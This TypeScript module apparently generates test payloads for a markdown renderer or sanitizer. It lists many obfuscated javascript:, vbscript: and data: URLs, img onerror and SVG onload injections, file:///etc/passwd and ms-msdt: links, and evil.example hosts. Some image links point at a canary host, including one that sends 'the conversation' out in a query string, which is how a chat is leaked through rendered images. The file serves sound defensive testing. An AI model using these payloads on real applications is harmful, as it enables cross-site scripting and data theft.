/** Addresses that run something, in every spelling, wherever an address can stand. */
import { named, type Payload, type Place } from './payload.ts';

function spellings({ script }: Place): string[] {
  return [
    `javascript:${script}`,
    `JaVaScRiPt:${script}`,
    ` javascript:${script}`,
    `\u0001javascript:${script}`,
    `java\tscript:${script}`,
    `java&Tab;script:${script}`,
    `java&NewLine;script:${script}`,
    `&#106;avascript:${script}`,
    `&#x6A;&#x61;vascript:${script}`,
    `&#0000106&#0000097vascript:${script}`,
    `javascript&colon;${script}`,
    `javascript&#58;${script}`,
    `javascript%3A${script}`,
    `%6Aavascript:${script}`,
    `\\u006aavascript:${script}`,
    `javascript\\:${script}`,
    `java\u00adscript:${script}`,
    `java\u200bscript:${script}`,
    `ｊavascript:${script}`,
    `javascript://ok.example/%0a${script}`,
    `https:javascript:${script}`,
    `view-source:javascript:${script}`,
    `feed:javascript:${script}`,
    `vbscript:msgbox(1)`,
    `livescript:${script}`,
    `data:text/html,<script>${script}</script>`,
    `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${script}'/>`,
    `blob:https://ok.example/00000000-0000-0000-0000-000000000000`,
    `filesystem:https://ok.example/temporary/x`,
    `file:///etc/passwd`,
    `about:blank`,
    `intent://x#Intent;scheme=http;end`,
    `ms-msdt:/id`,
    `mailto:a@b.example?bcc=c@d.example&body=x`,
    `mailto:a@b.example%0d%0abcc:c@d.example`,
    `//evil.example/x`,
    `/api/sessions`,
    `?delete=1`,
    `#root`,
    `../..`,
    `\\\\evil.example\\share`,
    `https:///evil.example`,
    `http://user:password@evil.example/`,
  ];
}

export function addresses(place: Place): Payload[] {
  return spellings(place).flatMap((address, index) =>
    named(`address ${index + 1}`, [
      `[click](${address})`,
      `[click](<${address}>) and <${address}> and ${address}`,
      `![picture](${address})`,
    ]),
  );
}

/** Everything that could make a browser fetch a picture. */
export function images({ canary }: Place): Payload[] {
  const pixel =
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
  return named('image', [
    `![](${canary}/1.png)`,
    `![alt](${canary}/2.png "title")`,
    `![alt](<${canary}/3 with space.png>)`,
    `[![badge](${canary}/4.svg)](https://ok.example)`,
    `![ref][pic]\n\n[pic]: ${canary}/5.png`,
    `![pic]\n\n[pic]: <${canary}/6.png> 'title'`,
    `![pic][]\n\n[PIC]: ${canary}/7.png`,
    `![alt ![inner](${canary}/8a.png)](${canary}/8b.png)`,
    `| ![a](${canary}/9.png) |\n|---|\n| ![b](${canary}/10.png) |`,
    `# ![heading](${canary}/11.png)`,
    `- ![item](${canary}/12.png)`,
    `> ![quote](${canary}/13.png)`,
    `Note[^1]\n\n[^1]: ![note](${canary}/14.png)`,
    `![data](data:image/png;base64,${pixel})`,
    `![svg](data:image/svg+xml;utf8,<svg xmlns="http://www.w3.org/2000/svg"><image href="${canary}/15"/></svg>)`,
    `![x](//${canary.replace('http://', '')}/16.png)`,
    `![x](${canary}/17.png =100x100)`,
    `![**bold** \`code\`](${canary}/18.png)`,
    `!\\[x](${canary}/19.png) \\![x](${canary}/20.png)`,
    `![stolen](${canary}/?q=the+conversation)`,
    `**![bold](${canary}/21.png)** ~~![gone](${canary}/22.png)~~`,
    `${canary}/23.png`,
    `<${canary}/24.png>`,
    `[link](${canary}/25)`,
  ]);
}

/** Definitions in other blocks, before and after, and labels that look like something else. */
export function references(place: Place): Payload[] {
  const { canary, script } = place;
  return named('reference', [
    `[x]\n\n[x]: javascript:${script}`,
    `[x][y]\n\n[y]: <javascript:${script}>`,
    `[y]: data:text/html,<script>${script}</script>\n\n[x][y]`,
    `> [q]: javascript:${script}\n\n[q]`,
    `- [i]: vbscript:x\n\n[i]`,
    `[a]\n\n[a]: https://ok.example\n[a]: javascript:${script}`,
    `[A]\n\n[a]: java\nscript:${script}`,
    `[__proto__]\n\n[__proto__]: javascript:${script}`,
    `[constructor] [toString] [hasOwnProperty]`,
    `[^__proto__] and [^constructor]\n\n[^__proto__]: x\n[^constructor]: <img src=x onerror=${script}>`,
    `[^1]\n\n[^1]: [x](javascript:${script})`,
    `[^root]\n\n[^root]: clobbers #root`,
    `[^"><img src=x onerror=${script}>]\n\n[^"><img]: x`,
    `[^1]: a[^2]\n[^2]: b[^1]\n\n[^1][^2]`,
    `[^1]: itself[^1]\n\nx[^1]`,
    `[x]: ${canary}/unused.png\n[y]: ${canary}/unused2`,
    `[\`x\`][${'a'.repeat(2000)}]\n\n[${'a'.repeat(2000)}]: javascript:${script}`,
    `[x](javascript:${script}\n"title")`,
    `[[x](javascript:${script})](https://ok.example)`,
    `[![x](javascript:${script})](javascript:${script})`,
  ]);
}
